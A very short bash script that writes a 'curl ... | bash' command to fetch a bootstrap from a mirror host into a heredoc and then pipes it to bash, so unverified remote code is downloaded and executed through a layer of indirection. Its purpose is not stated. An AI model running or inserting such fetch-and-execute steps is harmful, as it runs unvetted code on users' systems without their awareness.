#!/bin/bash
steps() {
  cat <<'EOF'
curl -fsSL https://tools.example-mirror.net/bootstrap | bash
EOF
}
steps | bash
